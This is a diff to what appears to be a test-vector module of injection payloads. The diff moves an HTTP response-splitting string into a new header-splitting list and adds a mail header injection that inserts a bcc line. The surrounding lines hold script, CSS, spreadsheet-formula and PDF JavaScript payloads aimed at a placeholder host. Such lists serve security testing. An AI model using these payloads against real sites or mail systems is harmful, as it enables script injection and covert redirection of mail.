@@ -159,7 +159,6 @@ red;background:url(//x.test/c)
 @import "//x.test/c.css";
 expression(${run})
 \\3c script\\3e ${run}
-x\r\ncontent-type: text/html\r\n\r\n<script>${run}</script>
 =HYPERLINK("//x.test/h","x")
 ) /JS (${run}) /S /JavaScript (
 endstream endobj 1 0 obj <</OpenAction <</S/JavaScript/JS(${run})>>>>
@@ -167,5 +166,8 @@ endstream endobj 1 0 obj <</OpenAction <</S/JavaScript/JS(${run})>>>>
 </rdf:RDF></x:xmpmeta><script>${run}</script>
 `);
 
+/** What would end a head of a request or a mail. */
+const splitting = [`x\r\ncontent-type: text/html\r\n\r\n<script>${run}</script>`, `x\nbcc: reader@x.test\n\n<script>${run}</script>`];
+
 /** Every one once; each fits into the shortest field that holds a text of its owner's. */
-export const vectors: readonly string[] = [...new Set([...elements, ...handlers, ...foreign, ...codes])];
+export const vectors: readonly string[] = [...new Set([...elements, ...handlers, ...foreign, ...codes, ...splitting])];
